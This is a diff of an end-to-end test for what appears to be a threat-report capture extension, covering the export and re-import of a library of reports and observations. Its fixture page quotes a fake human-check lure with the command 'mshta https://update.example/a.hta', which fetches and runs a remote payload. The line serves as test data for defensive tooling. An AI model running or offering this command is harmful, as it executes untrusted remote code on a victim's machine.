@@ -1,9 +1,8 @@
-import { afterAll, beforeAll, expect, inject, it } from 'vitest';
+import { afterAll, beforeAll, expect, it } from 'vitest';
 import { jsonFileSchema, type Library } from '@/utils/exchange/json-format';
-import { extensionDir } from '../support/builds';
 import { selectWithMouse } from '../support/selection';
 import { type PageServer, startServer } from '../support/server';
-import { type Download, openBrowser, type Session } from '../support/session';
+import type { Download, Session } from '../support/session';
 import { chooseLevel, fill, openCard, pickTechnique, readLibrary, save } from './steps/capture';
 import {
   chooseImport,
@@ -15,6 +14,7 @@ import {
   reportOn,
   seed,
 } from './steps/library';
+import { startBrowser } from './steps/start';
 
 const BODY = `<p>The lure was a page that asked visitors to prove that they are human.</p>
 <pre>mshta  https://update.example/a.hta
@@ -26,9 +26,6 @@ let session: Session;
 /** What the first browser exported. */
 let everything: Download;
 let library: Library;
-
-const browser = inject('browserName');
-const open = () => openBrowser({ browser, extensionDir: extensionDir(browser) });
 
 /** Reports and observations in the order of their ids: neither a file nor the store has that order by itself. */
 function sorted({ reports, observations }: Library): Library {
@@ -42,7 +39,7 @@ beforeAll(async () => {
       '/report.html': `<!doctype html><meta charset="utf-8"><title>One of two reports</title>${BODY}`,
     },
   });
-  session = await open();
+  session = await startBrowser();
 });
 afterAll(async () => {
   await session?.close();
@@ -106,16 +103,18 @@ it('exports what was captured: this page, and everything', async () => {
 });
 
 it('brings the same library back into a fresh profile, and changes nothing the second time', async () => {
-  const fresh = await open();
+  const fresh = await startBrowser();
   try {
     expect(sorted(await readLibrary(fresh))).toEqual({ reports: [], observations: [] });
     const page = await openLibrary(fresh);
-    expect(await chooseImport(page, everything.path)).toMatch(/holds 2 reports and 3 observations/);
+    const offered = await chooseImport(page, everything.path);
+    expect(offered).toMatch(/holds 2 reports and 3 observations/);
+    expect(offered).toMatch(/To be imported: 3 observations added, 0 changed, 0 the same, 0 kept/);
     expect(sorted(await readLibrary(fresh)).observations).toEqual([]);
     expect(await confirmImport(page)).toMatch(/3 observations added, 0 changed, 0 the same/);
     expect(sorted(await readLibrary(fresh))).toEqual(library);
 
-    await chooseImport(page, everything.path);
+    expect(await chooseImport(page, everything.path)).toMatch(/0 observations added, 0 changed, 3 the same/);
     expect(await confirmImport(page)).toMatch(/0 observations added, 0 changed, 3 the same/);
     expect(sorted(await readLibrary(fresh))).toEqual(library);
   } finally {
